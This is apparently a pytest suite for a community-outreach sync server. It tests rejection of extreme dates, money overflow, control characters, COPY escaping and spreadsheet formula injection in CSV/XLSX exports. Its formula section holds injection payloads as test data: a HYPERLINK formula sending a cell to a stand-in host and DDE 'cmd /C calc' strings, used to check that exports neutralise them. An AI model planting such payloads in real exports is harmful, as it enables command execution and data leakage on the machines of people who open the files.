"""What push refuses, and what is already stored that every list, report and export still reads
(§7: no input, however odd, gets a 500, then or later). Rows "stored before" are written straight
into the database, as an older server would have accepted them. On SQLite and PostgreSQL."""

from __future__ import annotations

from typing import Any

import pytest
from conftest import Api, read_back_everything

CAMPAIGN = {"name": "Dân vận đợt 2/2024", "starts_on": "2024-10-12", "ends_on": "2024-10-24"}


@pytest.fixture
def campaign(admin: Api, build) -> str:
    campaign_id = build.id()
    assert admin.push_one(build.op("campaigns", campaign_id, CAMPAIGN))["status"] == "applied"
    return campaign_id


@pytest.fixture
def store(app):
    """Overwrite a record's fields in the database, bypassing validation (an older server)."""
    from server.extensions import db
    from sync.models import Record

    def write(collection: str, record_id: str, dated_on: str | None = None, **fields: Any) -> None:
        with app.app_context():
            record = db.session.get(Record, (collection, record_id))
            record.fields = {**record.fields, **fields}
            if dated_on is not None:
                record.dated_on = dated_on
            db.session.commit()

    return write


def child(admin: Api, build, collection: str, household: dict, **fields: Any) -> str:
    record_id = build.id()
    result = admin.push_one(
        build.op(collection, record_id, {"household_id": household["id"], **fields})
    )
    assert result["status"] == "applied", result
    return record_id


def gift(admin, build, household, value: int = 500_000, **fields: Any) -> str:
    fields = {"kind": "gift", "value_vnd": value, "given_on": "2024-10-13", **fields}
    return child(admin, build, "support", household, **fields)


# -- dates at the ends of the calendar --------------------------------------------------------


@pytest.mark.parametrize(
    "period",
    [
        {"date_from": "0001-01-01"},
        {"date_to": "9999-12-31"},
        {"date_from": "0001-01-01", "date_to": "9999-12-31"},
    ],
    ids=["from-year-1", "to-year-9999", "both"],
)
def test_date_filters_at_the_ends_of_the_calendar_are_answered(
    admin, household, campaign, build, period
):
    child(
        admin,
        build,
        "visits",
        household,
        visited_at="2024-10-13T09:00:00+07:00",
        purpose="outreach",
    )
    for collection in ("households", "visits", "nominations"):
        response = admin.get(f"/records/{collection}", query_string=period)
        assert response.status_code == 200, response.get_json()
    assert admin.get("/records/visits", query_string=period).get_json()["total"] == 1
    files = read_back_everything(admin, [campaign], **period)
    assert files[f"/reports/campaign/{campaign}"]["total"]["visits"]["visits"] == 1


@pytest.mark.parametrize(
    ("collection", "name", "value"),
    [
        ("campaigns", "starts_on", "0001-01-01"),
        ("campaigns", "ends_on", "9999-12-31"),
        ("campaigns", "launch_on", "1999-12-31"),
        ("campaigns", "report_due_on", "2101-01-01"),
        ("visits", "visited_at", "0001-01-01T00:00:00+07:00"),
        ("visits", "visited_at", "1999-12-31T23:59:59+07:00"),
        ("registrations", "registered_on", "1999-12-31"),
        ("support", "given_on", "9999-12-31"),
    ],
)
def test_dates_the_domain_cannot_mean_are_refused_at_push(
    admin, household, build, collection, name, value
):
    fields = {
        "campaigns": dict(CAMPAIGN),
        "visits": {
            "household_id": household["id"],
            "visited_at": "2024-10-13T09:00:00+07:00",
            "purpose": "outreach",
        },
        "registrations": {
            "household_id": household["id"],
            "kind": "clean_water",
            "status": "considering",
            "registered_on": "2024-10-13",
        },
        "support": {
            "household_id": household["id"],
            "kind": "gift",
            "value_vnd": 1,
            "given_on": "2024-10-13",
        },
    }[collection]
    if collection == "campaigns" and name == "starts_on":
        fields["ends_on"] = "9999-12-31"
    result = admin.push_one(build.op(collection, build.id(), {**fields, name: value}))
    assert result["code"] == "validation" and name in result["errors"], result


@pytest.mark.parametrize("day", ["2000-01-01", "2100-12-31"])
def test_the_first_and_last_days_the_domain_means_are_accepted(admin, household, build, day):
    assert gift(admin, build, household, given_on=day)


def test_a_campaign_stored_with_extreme_dates_still_reports(
    admin, household, campaign, build, store
):
    visit = child(
        admin,
        build,
        "visits",
        household,
        visited_at="2024-10-13T09:00:00+07:00",
        purpose="outreach",
    )
    store(
        "campaigns",
        campaign,
        starts_on="0001-01-01",
        ends_on="9999-12-31",
        report_due_on="9999-12-31",
    )
    store("visits", visit, dated_on="9999-12-31", visited_at="9999-12-31T23:59:59-12:00")
    other = child(
        admin,
        build,
        "visits",
        household,
        visited_at="2024-10-13T09:00:00+07:00",
        purpose="outreach",
    )
    store("visits", other, dated_on="0001-01-01", visited_at="0001-01-01T00:00:00+14:00")
    files = read_back_everything(admin, [campaign])
    assert files[f"/reports/campaign/{campaign}"]["total"]["visits"]["visits"] == 2


# -- money ---------------------------------------------------------------------------------


def test_a_gift_over_10_to_the_12_dong_is_refused(admin, household, build):
    assert gift(admin, build, household, value=10**12)
    result = admin.push_one(
        build.op(
            "support",
            build.id(),
            {
                "household_id": household["id"],
                "kind": "cash",
                "value_vnd": 10**12 + 1,
                "given_on": "2024-10-13",
            },
        )
    )
    assert result["code"] == "validation" and "value_vnd" in result["errors"]


@pytest.mark.parametrize(
    "values",
    [[2_147_483_648], [5 * 10**18, 5 * 10**18], [9_223_372_036_854_775_807, 1]],
    ids=["past-int32", "past-int64-together", "int64-max-and-one"],
)
def test_report_sums_money_stored_before_without_overflow(
    admin, household, campaign, build, store, values
):
    for value in values:
        store("support", gift(admin, build, household), value_vnd=value)
    files = read_back_everything(admin, [campaign])
    assert files[f"/reports/campaign/{campaign}"]["total"]["support"]["value_vnd"] == sum(values)


# -- control characters ------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x0c", "\r", "\x1b", "\x1f"], ids=repr)
@pytest.mark.parametrize("name", ["head_name", "address", "notes"])
def test_control_characters_in_text_are_refused_at_push(admin, quarters, build, char, name):
    fields = build.household(quarters["KP1"], **{name: f"Gặp chủ hộ{char}Nguyễn"})
    result = admin.push_one(build.op("households", build.id(), fields))
    assert result["code"] == "validation" and name in result["errors"], result


def test_tab_and_newline_are_kept_in_text(admin, quarters, build):
    fields = build.household(quarters["KP1"], notes="Hẹn lại:\tthứ Bảy\nsáng")
    result = admin.push_one(build.op("households", build.id(), fields))
    assert result["record"]["fields"]["notes"] == "Hẹn lại:\tthứ Bảy\nsáng"


ESCAPED = 'C:\\Hồ sơ\\N\tcột 2\nhàng 2 \\t \\\\N "trích"'


def test_text_that_copy_escapes_is_stored_exactly(app, admin, quarters, build):
    """Backslashes, tabs, line breaks and a literal `\\N` (on PostgreSQL rows go in as COPY
    text, where each of these is escaped) come back as sent: the record, its revision, the op's
    payload and result, an op's short columns, and the search text."""
    from sqlalchemy import select

    from server.extensions import db
    from sync.models import Op, Record, Revision
    from sync.text import fold

    record_id = build.id()
    fields = build.household(
        quarters["KP1"], head_name="Lê \\N\\ Hà", address=ESCAPED, notes=ESCAPED
    )
    created = build.op("households", record_id, fields)
    odd = {**build.op("households", "x\ty\\N", fields), "client_time": "\\N\n"}
    [applied, rejected] = admin.push(created, odd)
    assert applied["status"] == "applied" and rejected["status"] == "rejected"
    with app.app_context():
        record = db.session.get(Record, ("households", record_id))
        assert record.fields["notes"] == ESCAPED and record.fields["head_name"] == "Lê \\N\\ Hà"
        assert record.search_text == fold(f"Lê \\N\\ Hà {ESCAPED} {fields['phone']}")
        revision = db.session.get(Revision, ("households", record_id, 1))
        assert revision.fields == record.fields
        ops = {
            op.op_id: op
            for op in db.session.execute(
                select(Op).where(Op.op_id.in_([created["op_id"], odd["op_id"]]))
            ).scalars()
        }
        assert ops[created["op_id"]].payload == created
        assert ops[odd["op_id"]].payload == odd
        assert (ops[odd["op_id"]].record_id, ops[odd["op_id"]].client_time) == ("x\ty\\N", "\\N\n")
        assert ops[odd["op_id"]].result == rejected
    [replayed, again] = admin.push(created, odd)
    assert replayed == {**applied, "replayed": True} and again == {**rejected, "replayed": True}


def test_exports_survive_control_characters_stored_before(
    admin, household, campaign, quarters, build, store
):
    store("households", household["id"], head_name="Gặp chủ hộ\x01…", notes="a\x0bb\x0cc")
    store("campaigns", campaign, name="Đợt\x1f 2")
    store("quarters", quarters["KP1"], name="Khu phố\x02 1")
    store("support", gift(admin, build, household), sponsor="Công ty\x1b A")
    files = read_back_everything(admin, [campaign])
    head_names = [row[2] for row in files["/exports/households.xlsx"][1:]]
    assert "Gặp chủ hộ…" in [v for v, _ in head_names]


# -- formulas in spreadsheets ----------------------------------------------------------------

FORMULAS = {
    "head_name": '=HYPERLINK("http://x/?"&A2,"Bấm vào đây")',
    "address": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_exports_write_formulas_as_text(admin, household, campaign, quarters, build, store):
    admin_fields = {name: value for name, value in FORMULAS.items()}
    result = admin.push_one(
        build.op("households", household["id"], admin_fields, base_rev=household["rev"])
    )
    assert result["status"] == "applied", result
    store("quarters", quarters["KP1"], name="-1+1 Khu phố")
    store("campaigns", campaign, name="\tTAB=1+1")
    nominee = build.id()
    assert (
        admin.push_one(
            build.op(
                "nominations",
                nominee,
                {
                    "quarter_id": quarters["KP1"],
                    "nominee": "=1+2",
                    "nominee_kind": "individual",
                    "domain": "economy",
                    "achievement": "@A1",
                    "campaign_id": campaign,
                },
            )
        )["status"]
        == "applied"
    )
    store("nominations", nominee, achievement="\r=2+3")
    store("support", gift(admin, build, household), sponsor="=SUM(A1:A9)")
    visit = {"visited_at": "2024-10-13T09:00:00+07:00", "purpose": "outreach", "notes": "-2+3"}
    child(admin, build, "visits", household, **visit)
    unit = build.id()
    deed = {"unit_id": unit, "campaign_id": campaign, "planned_on": "2024-10-13", "title": "+A1"}
    for op in (
        build.op("units", unit, {"name": "=1+1 Hội", "kind": "other"}),
        build.op("deeds", build.id(), {**deed, "result": "@B2"}),
    ):
        assert admin.push_one(op)["status"] == "applied"
    files = read_back_everything(admin, [campaign])

    # Every export holding such text has it neutralised: a ' in CSV, a string cell in XLSX.
    for collection in (
        "quarters",
        "campaigns",
        "households",
        "visits",
        "support",
        "nominations",
        "units",
        "deeds",
    ):
        csv_texts = [cell for row in files[f"/exports/{collection}.csv"] for cell in row]
        assert any(t[:2] in ("'=", "'+", "'-", "'@", "'\t", "'\r") for t in csv_texts), collection
        xlsx_cells = [cell for row in files[f"/exports/{collection}.xlsx"] for cell in row]
        assert any(
            isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r") and kind == "s"
            for v, kind in xlsx_cells
        ), collection

    csv_rows = files["/exports/households.csv"]
    for value in FORMULAS.values():
        assert any("'" + value in row for row in csv_rows), value
    xlsx_cells = [cell for row in files["/exports/households.xlsx"] for cell in row]
    for value in FORMULAS.values():
        assert (value, "s") in xlsx_cells, value
    assert all(
        kind != "f"
        for path, rows in files.items()
        if path.endswith(".xlsx")
        for row in rows
        for _, kind in row
    )
    for path, rows in files.items():
        if path.endswith(".csv"):
            texts = [cell for row in rows for cell in row]
            assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")], path
    report_csv = files[f"/reports/campaign/{campaign}.csv"]
    assert "'-1+1 Khu phố" in report_csv[0]
